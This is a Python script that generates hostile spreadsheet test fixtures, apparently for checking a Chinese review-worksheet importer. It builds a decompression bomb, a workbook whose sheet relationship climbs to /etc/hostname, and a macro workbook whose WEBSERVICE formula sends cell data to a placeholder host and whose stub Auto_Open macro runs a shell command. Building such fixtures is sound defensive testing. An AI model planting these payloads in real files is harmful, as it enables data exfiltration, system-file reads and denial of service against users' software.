"""Makes the hostile workbooks beside it: python3 make.py"""
import zipfile

COLUMNS = ["三级指标", "自评完成值", "复核完成值", "复核得分", "复核意见", "编号"]
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"


def text(reference, value):
    return f'<c r="{reference}" t="inlineStr"><is><t>{value}</t></is></c>'


def sheet(cells, tail="", padding=0):
    header = "".join(text(f"{chr(65 + i)}1", name) for i, name in enumerate(COLUMNS))
    return (
        f'<worksheet xmlns="{MAIN}" xmlns:r="{OFFICE}"><sheetData><row r="1">{header}</row><row r="2">{cells}</row>'
        f'</sheetData>{" " * padding}{tail}</worksheet>'
    )


def write(name, sheet_xml, target="worksheets/sheet1.xml", main="sheet.main", extra=()):
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml."
    book = f"{kind}{main}+xml" if "macro" not in main else "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    parts = [
        ("[Content_Types].xml",
         f'<Types xmlns="{PACKAGE}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
         f'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
         f'<Override PartName="/xl/workbook.xml" ContentType="{book}"/>'
         f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{kind}worksheet+xml"/></Types>'),
        ("_rels/.rels",
         f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="r1" Type="{OFFICE}/officeDocument" Target="xl/workbook.xml"/></Relationships>'),
        ("xl/workbook.xml",
         f'<workbook xmlns="{MAIN}" xmlns:r="{OFFICE}"><sheets><sheet name="复核底稿" sheetId="1" r:id="r1"/></sheets></workbook>'),
        ("xl/_rels/workbook.xml.rels",
         f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="r1" Type="{OFFICE}/worksheet" Target="{target}"/>'
         f'<Relationship Id="r2" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>'),
        ("xl/worksheets/sheet1.xml", sheet_xml),
    ] + list(extra)
    with zipfile.ZipFile(name, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for path, content in parts:
            archive.writestr(zipfile.ZipInfo(path, (2020, 1, 1, 0, 0, 0)), content, zipfile.ZIP_DEFLATED, 9)


row = text("A2", "讲座场次") + text("C2", "8场")
write("bomb.xlsx", sheet(row, padding=40 << 20))
write("climbing.xlsx", sheet(row), target="../../../../../../etc/hostname")
write(
    "macros.xlsm",
    sheet(
        row
        + '<c r="D2" t="str"><f>WEBSERVICE("http://192.0.2.1/?"&amp;A2)</f><v>33.33</v></c>'
        + '<c r="E2" t="str"><f>HYPERLINK("http://192.0.2.1/","见附件")</f><v>见附件</v></c>',
        tail='<hyperlinks><hyperlink ref="A2" location="Auto_Open"/></hyperlinks>',
    ),
    main="macro",
    extra=[("xl/vbaProject.bin", b"Sub Auto_Open()\nShell \"touch /tmp/jixiao-macro-was-run\"\nEnd Sub\n")],
)
